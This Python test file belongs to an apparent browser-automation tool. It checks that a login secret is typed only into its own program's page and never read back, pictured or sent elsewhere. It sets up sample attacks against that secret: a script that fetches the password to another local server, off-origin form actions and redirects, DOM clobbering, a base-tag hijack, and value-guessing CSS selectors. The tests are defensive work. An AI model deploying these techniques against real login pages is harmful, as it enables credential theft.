"""The secret of a program that has only a screen: typed into that program's own page alone, and read, pointed at or pictured by nobody."""

from __future__ import annotations

import io
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from PIL import Image

from metrikon.connections.browser import browser
from metrikon.connections.screen import BrowserScreen
from metrikon.connections.veiled import Veil, VeiledScreen
from metrikon.core.entering.way import BadWay, Place, SignIn, way_from
from metrikon.core.flows.connecting import origin
from metrikon.ports.screen import ScreenStopped

SECRET = "Saffron&Crocus=17"
SIGN_IN = SignIn(user="User", password="Password", press="Sign in")
_FORM = """<!doctype html><title>t</title><form method=post action="{action}"><label>User <input name=user></label>
<label>Password <input name=password type=password id=p></label><button>Sign in</button></form>"""
_SHOWING = """<!doctype html><title>t</title><label>User <input name=user></label><label>Password <input name=password type=password id=p></label>
<button onclick="document.body.dataset.x = 1; return false">Sign in</button> <button onclick="p.type = 'text'">Show</button>
<button onclick="e.textContent = p.value; f.value = p.value">Echo</button> <p><b>Echoed</b> <span id=e></span></p><label>Copy <input id=f readonly></label>"""


@dataclass
class Site:
    """A server of pages by their paths, and what it heard."""

    pages: dict[str, tuple[int, dict[str, str], str]] = field(default_factory=dict)
    heard: list[str] = field(default_factory=list)
    url: str = ""


@contextmanager
def serving(site: Site) -> Iterator[Site]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            site.heard.append(f"{self.command} {self.path} {body}")
            status, headers, text = site.pages.get(self.path.partition("?")[0], (200, {}, "<!doctype html><title>t</title>Welcome"))
            self.send_response(status)
            for name, value in {"Content-Type": "text/html", "Content-Length": str(len(text)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(text.encode())

        do_POST = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:
            return None

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    site.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def opened(home: Site) -> Iterator[VeiledScreen]:
    with browser(private=True) as (driver, guard):
        veil = Veil(lambda mask: guard.keep_in(*origin(home.url)[1:], mask))

        def signing() -> tuple[str, str]:
            veil.over(SECRET)
            return "ada", SECRET

        yield VeiledScreen(BrowserScreen(driver, lambda path: f"{home.url}/{path}", signing, 3, guard.fresh, guard.refused), veil)


def test_a_secret_is_typed_into_the_page_of_its_own_program_alone_and_sent_nowhere_else() -> None:
    with serving(Site()) as home, serving(Site()) as other, opened(home) as screen:
        form = _FORM.format
        leak = f"<script>setInterval(() => {{ if (p.value) fetch('{other.url}/leak?' + new URLSearchParams({{p: p.value}})); }}, 5)</script>"
        clobbered = _FORM.replace("<label>User", "<input type=hidden name=getAttribute><input type=hidden name=action><label>User").format
        home.pages = {
            "/right": (200, {}, form(action="/in")),
            "/led": (302, {"Location": f"{other.url}/form"}, ""),
            "/sends": (200, {}, form(action=f"{other.url}/take")),
            "/clobbers": (200, {}, clobbered(action=f"{other.url}/take")),
            "/base": (200, {}, f"<base href='{other.url}/'>" + form(action="take")),
            "/passes": (200, {}, form(action="/on")),
            "/on": (307, {"Location": f"{other.url}/take"}, ""),
            "/leaks": (200, {}, form(action="/in") + leak),
        }
        other.pages = {"/form": (200, {}, form(action="/take")), "/take": (200, {}, "<!doctype html>taken")}
        for path, why in (
            ("led", "is for its own program alone"),
            ("sends", "goes to 127.0.0.1, which is not the program"),
            ("clobbers", "goes to 127.0.0.1, which is not the program"),
            ("base", "goes to 127.0.0.1, which is not the program"),
            ("passes", "that came after signing in is at"),
        ):
            screen.open(path)
            with pytest.raises(ScreenStopped, match=why):
                screen.sign_in(SIGN_IN)
        screen.open("leaks")
        screen.sign_in(SIGN_IN)
        screen.open("right")
        assert screen.sign_in(SIGN_IN)
        assert any("Saffron%26Crocus" in each for each in home.heard)
        assert not [each for each in other.heard if "affron" in each]


def _ink(picture: bytes, box: dict[str, float]) -> int:
    """How many colours stand in a part of a picture."""
    image = Image.open(io.BytesIO(picture)).convert("RGB")
    part = image.crop((int(box["x"]), int(box["y"]), int(box["x"] + box["width"]), int(box["y"] + box["height"])))
    return len(part.getcolors(1 << 20) or [])


def test_what_was_typed_from_a_secret_is_never_read_pointed_at_or_pictured() -> None:
    with serving(Site({"/": (200, {}, _SHOWING)})) as home, opened(home) as screen:
        screen.open("")
        inner: Any = screen._screen
        inner._type_secret(inner._found(Place(label="Password"), "password"), inner._signing()[1])
        screen.press(Place(label="Show"))
        screen.press(Place(label="Echo"))
        driver = inner._driver
        boxes = {
            each: driver.execute_script("return arguments[0].getBoundingClientRect().toJSON()", driver.find_element("id", each)) for each in "pef"
        }
        assert driver.execute_script("return p.type + e.textContent") == f"text{SECRET}"
        picture = screen.picture()
        assert {each: _ink(picture, box) for each, box in boxes.items()} == dict.fromkeys(boxes, 1)
        assert driver.execute_script("return document.querySelectorAll('metrikon-veil').length") == 0
        for label in ("Echoed", "Copy"):
            with pytest.raises(ScreenStopped, match="which is not read") as told:
                screen.read(Place(label=label))
            assert SECRET not in str(told.value)
        assert "affron" not in screen.read(Place(label="Password"))
        for box in boxes.values():
            assert "affron" not in str(screen.at(box["x"] + 5, box["y"] + 5))
        with pytest.raises(ScreenStopped) as refused:
            screen.fill(Place(label="Copy"), "another value")
        assert "affron" not in str(refused.value)


@pytest.mark.parametrize(
    "path", ["input[value^='S']", "input[ VALUE*=a]", r"input[\76 alue^=a]", "form:has([*|value^=a]) button", "input[/**/value^=a]"]
)
def test_a_path_that_guesses_at_values_is_refused(path: str) -> None:
    way = {"way": "w", "connection": "c", "takes": ["a"], "enter": [{"press": {"on": {"path": path}, "last": True}}]}
    with pytest.raises(BadWay, match="asks for no values"):
        way_from(way)


def test_a_path_by_an_id_or_a_name_is_taken() -> None:
    assert way_from(
        {"way": "w", "connection": "c", "takes": ["a"], "enter": [{"press": {"on": {"path": "#save button[name=value1]"}, "last": True}}]}
    )
